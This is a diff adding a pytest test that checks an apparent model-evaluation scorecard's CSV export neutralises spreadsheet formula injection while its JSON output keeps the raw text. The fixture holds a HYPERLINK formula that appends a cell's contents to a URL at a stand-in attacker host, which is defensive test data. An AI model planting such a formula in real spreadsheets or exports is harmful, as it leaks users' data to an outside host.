@@ -106,3 +106,16 @@ def test_a_prompt_set_whose_input_is_not_text_names_the_line(tmp_path):
                  '{"prompt": "c", "label": "benign", "input": null}\n', encoding="utf-8")
     with pytest.raises(ValueError, match="line 2: 'input' must be text"):
         load_prompt_set(p)
+
+
+def test_csv_export_keeps_formulas_inert_and_json_keeps_the_text():
+    """Prompts and answers are user and model text: a cell starting with = + - @ opened as a formula."""
+    import csv
+    import io
+
+    card = score_rows([{"prompt": '=HYPERLINK("http://evil.example/?"&A1,"클릭")', "label": "benign",
+                        "base_answer": "- 우유\n- 계란", "lora_answer": "@sum", "base_refusal": False,
+                        "lora_refusal": False}])
+    [row] = csv.DictReader(io.StringIO(card.to_csv()))
+    assert row["prompt"].startswith("'=HYPERLINK") and row["base_answer"] == "'- 우유\n- 계란"
+    assert row["lora_answer"] == "'@sum" and card.to_dict()["rows"][0]["base_answer"] == "- 우유\n- 계란"
